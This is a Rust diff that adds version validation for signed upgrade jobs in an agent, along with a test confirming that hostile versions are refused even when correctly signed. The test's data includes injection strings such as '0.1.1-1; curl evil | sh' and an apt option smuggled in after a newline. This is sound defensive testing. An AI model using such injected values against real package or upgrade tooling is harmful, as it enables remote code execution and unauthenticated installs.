@@ -12,6 +12,7 @@ use std::process::Stdio;
 use std::time::Duration;
 
 use sensei_shared::codec::io::write_frame;
+use sensei_shared::job::UpgradeAgentSpec;
 use sensei_shared::protocol::AgentMessage;
 use sensei_shared::session::HelloSent;
 use sensei_shared::upgrade::{check_package_version, os_from_release, upgrade_unit};
@@ -27,6 +28,15 @@ const TRIGGER_OUTPUT_BYTES: u64 = 4096;
 pub const UPGRADE_HOLD: Duration = Duration::from_secs(600);
 /// The most of `/etc/os-release` read.
 const OS_RELEASE_BYTES: u64 = 8192;
+
+/// What the agent accepts of a verified upgrade job: the version, if it is a Debian version
+/// ([`check_package_version`]); checked before anything else is done with the job, whoever
+/// signed it.
+pub fn accept(spec: &UpgradeAgentSpec) -> Result<&str, String> {
+    check_package_version(&spec.version)
+        .map(|()| spec.version.as_str())
+        .map_err(|e| format!("upgrade refused: {e}"))
+}
 
 /// The trigger's argument list for `version`: every argument that is exactly `{unit}` or
 /// `{version}` is replaced (never inside a longer argument, never through a shell).
@@ -173,6 +183,56 @@ mod tests {
         ];
         let err = trigger(Some(&failing), "0.1.1-1").await.expect_err("fails");
         assert!(err.contains("nope"), "{err}");
+    }
+
+    /// A job signed with the pinned key (a stolen key, a compromised control plane) that
+    /// names a hostile version passes the signature check and is still refused by the agent.
+    #[test]
+    fn a_signed_job_with_a_hostile_version_is_refused() {
+        use sensei_shared::job::{verify, Expectations, JobPayload, JobTask, SignedJob};
+        let key = ed25519_dalek::SigningKey::from_bytes(&[5u8; 32]);
+        let pinned = key.verifying_key();
+        for (version, accepted) in [
+            ("0.1.1-1", true),
+            ("0.1.1-1; curl evil | sh", false),
+            ("--allow-downgrades", false),
+            ("0.1.1-1\n-o APT::Get::AllowUnauthenticated=true", false),
+            (&*"9".repeat(65), false),
+        ] {
+            let payload = JobPayload {
+                job_id: uuid::Uuid::from_u128(1),
+                server_id: uuid::Uuid::from_u128(2),
+                certificate_fingerprint: [3; 32],
+                sequence: 7,
+                not_before: 1_000,
+                expires_at: 2_000,
+                task: JobTask::UpgradeAgent(UpgradeAgentSpec {
+                    version: version.into(),
+                }),
+            };
+            let job = SignedJob::sign(&payload, &key).expect("sign");
+            let verified = verify(
+                &job,
+                &Expectations {
+                    key: &pinned,
+                    server_id: uuid::Uuid::from_u128(2),
+                    certificate_fingerprint: [3; 32],
+                    highest_sequence: 6,
+                    now: 1_500,
+                },
+            )
+            .expect("the signature is good");
+            let JobTask::UpgradeAgent(spec) = &verified.task else {
+                panic!("an upgrade job");
+            };
+            match accept(spec) {
+                Ok(v) => assert!(accepted && v == version, "{version:?}"),
+                Err(why) => {
+                    assert!(!accepted, "{version:?}");
+                    assert!(why.starts_with("upgrade refused:"), "{why}");
+                }
+            }
+        }
     }
 
     #[test]
